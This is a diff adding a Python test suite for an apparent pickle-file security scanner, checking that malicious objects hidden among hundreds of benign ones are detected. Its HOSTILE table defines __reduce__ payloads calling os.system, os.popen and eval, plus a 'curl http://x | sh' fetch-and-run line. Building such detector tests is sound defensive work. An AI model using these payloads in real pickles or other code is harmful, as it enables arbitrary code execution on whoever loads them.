@@ -1,0 +1,150 @@
+"""Values like many before are passed at once; one that only resembles them is seen as alone."""
+
+from __future__ import annotations
+
+import collections
+import datetime
+import decimal
+import fractions
+import functools
+import os
+import pickle
+from collections.abc import Iterator
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from mlsec.artifacts.inspect import inspect
+from mlsec.artifacts.limits import Limits
+from mlsec.artifacts.pickle import runs, streams
+from mlsec.artifacts.pickle.known import Known
+from mlsec.artifacts.pickle.machine import Machine
+from mlsec.artifacts.pickle.templates import Template
+from mlsec.artifacts.window import Window
+from tests.artifacts.shapes_of_objects import NEW_ONLY, SHAPES, Plain, Point, Reduced
+
+PROGRAM = "exec('x')"
+Said = frozenset[tuple[object, ...]]
+
+
+class Lie:
+    """Stored as a call of our choice, perhaps with a state."""
+
+    def __init__(self, made_by: object, *arguments: object, state: object = None) -> None:
+        self.parts = (made_by, arguments, state) if state else (made_by, arguments)
+
+    def __reduce__(self) -> tuple[object, ...]:
+        return self.parts
+
+
+HOSTILE = {
+    "a command": Lie(os.system, "id"),
+    "a program for Decimal": Lie(decimal.Decimal, PROGRAM),
+    "a program for datetime": Lie(datetime.datetime, b"exec('x').."),
+    "a program for Fraction": Lie(fractions.Fraction, PROGRAM, PROGRAM),
+    "a program in a Counter": Lie(collections.Counter, {PROGRAM: 1}),
+    "a program in a deque": Lie(collections.deque, [PROGRAM]),
+    "a number that swells": Lie(bytearray, 1 << 40),
+    "a stored function": Lie(functools.partial, eval, PROGRAM),
+    "a command as a factory": Lie(collections.defaultdict, Lie(os.popen, "id")),
+    "a hook in a state": Lie(Plain, state={"number": 1, "__class__": 1}),
+    "a hook in slots": Lie(Plain, state=(None, {"left": 1, "__class__": 1})),
+    "a command within": Plain(number=1, text=Lie(os.system, "id")),
+    "a command in a tuple": Point(1, Lie(os.system, "id")),
+    "a command given to a class": Lie(Reduced, 1, "curl http://x | sh"),
+}  # fmt: skip
+
+
+@pytest.fixture(autouse=True, scope="module")
+def early_lessons() -> Iterator[None]:
+    """Learn from short streams too."""
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr(runs, "FIRST_LESSON_BYTES", 256)
+        yield
+
+
+class OneByOne(Machine):
+    """Follows every opcode."""
+
+    __slots__ = ()
+    is_batched = property(lambda self: False, lambda self, _value: None)  # type: ignore[assignment]
+
+
+def said(data: bytes) -> Said:
+    found = inspect(Window.of(data), Limits(cpu_s=60))
+    facts = {(fact.kind, fact.subject, fact.detail, fact.danger) for fact in found.facts}
+    return frozenset(facts | {(hole.reason, hole.detail) for hole in found.holes})
+
+
+def said_one_by_one(data: bytes) -> Said:
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr(streams, "Machine", OneByOne)
+        return said(data)
+
+
+WITH_CALLS = sorted(SHAPES.keys() - {"set", "frozenset", "bytes", "complex"})
+
+
+@pytest.mark.parametrize("protocol", [0, 2, 4, 5])
+@pytest.mark.parametrize("shape", SHAPES)
+def test_what_is_said_of_many_objects_is_what_is_said_one_by_one(shape: str, protocol: int) -> None:
+    if protocol < 2 and shape in NEW_ONLY:
+        return
+    data = pickle.dumps([SHAPES[shape](number) for number in range(900)], protocol)
+    assert said(data) == said_one_by_one(data)
+
+
+@pytest.mark.parametrize("shape", sorted(set(WITH_CALLS) - {"enumeration"}))
+def test_objects_of_one_kind_are_learned(shape: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    learned: list[Template] = []
+    teach = Known.teach
+
+    def listen(known: Known, found: list[Template]) -> bool:
+        learned.extend(found)
+        return teach(known, found)
+
+    monkeypatch.setattr(Known, "teach", listen)
+    inspect(Window.of(pickle.dumps([SHAPES[shape](number) for number in range(900)], 4)))
+    assert max(collections.Counter(learned).values()) > 1
+
+
+@settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck))
+@given(
+    shape=st.sampled_from(sorted(SHAPES)), protocol=st.sampled_from((0, 2, 4, 5)),
+    lie=st.sampled_from(sorted(HOSTILE)),
+    place=st.integers(0, 700),
+    is_alone=st.booleans(),
+)  # fmt: skip
+def test_a_hostile_object_among_many_is_seen(
+    shape: str, protocol: int, lie: str, place: int, is_alone: bool
+) -> None:
+    protocol = 2 if shape in NEW_ONLY and protocol < 2 else protocol
+    many = [SHAPES[shape](number) for number in range(700)]
+    honest = said(pickle.dumps([*many, Plain(number=0), Point(1, 2), Reduced(1, "a")], protocol))
+    values = [*many[:place], HOSTILE[lie], *many[place:]]
+    data = pickle.dumps(values if is_alone else [*many, values], protocol)
+    found = said(data)
+    assert found == said_one_by_one(data)
+    assert found - honest
+
+
+@settings(max_examples=200, deadline=None, suppress_health_check=list(HealthCheck))
+@given(
+    shape=st.sampled_from(WITH_CALLS), protocol=st.sampled_from((2, 4)),
+    changes=st.lists(
+        st.tuples(st.floats(0.2, 1), st.sampled_from(b"hjKRb\x81\x85\x94)}]u"), st.integers(0, 20)),
+        min_size=1, max_size=4,
+    ),
+)  # fmt: skip
+def test_changed_bytes_are_told_as_one_by_one(
+    shape: str, protocol: int, changes: list[tuple[float, int, int]]
+) -> None:
+    many = [os.system, PROGRAM, *map(SHAPES[shape], range(500))]
+    data = bytearray(pickle.dumps(many, protocol))
+    for where, code, argument in changes:
+        # An opcode of this kind gets another argument, or becomes another opcode.
+        at = data.find(code, int(where * (len(data) - 2)))
+        if at > 0:
+            data[at + argument % 2 : at + 1 + argument % 2] = bytes([argument])
+    assert said(bytes(data)) == said_one_by_one(bytes(data))
